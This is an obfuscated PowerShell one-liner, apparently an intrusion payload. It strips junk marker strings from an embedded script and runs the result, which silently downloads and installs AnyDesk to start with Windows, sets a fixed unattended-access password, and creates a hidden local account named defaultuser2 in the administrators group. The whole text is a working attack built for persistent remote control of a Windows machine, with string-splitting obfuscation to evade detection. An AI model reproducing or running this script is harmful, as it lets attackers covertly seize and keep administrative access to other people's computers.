'iex ((''# task 1761 vj~33
Invj~3oke-WebRequest -Uri ''''https://download.anydesk.com/AnyDesk.exe'''' -OutFile C:\ProgramData\AnyDesk.exe
cmd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramDatKZK58a\AnyDesk --start-with-win --silent"KZK58
cmd /c "echo Winter#2025x | C:\ProgramData\AnyDeskKZK58\AnyDesk.exe --set-password"
net user defaultuser2 Winter#2025x /add
net localgroup administrators defaultuser2 /add
'' -replace ''KZK58'','''').Replace(''vj~3'',''v''))' | iex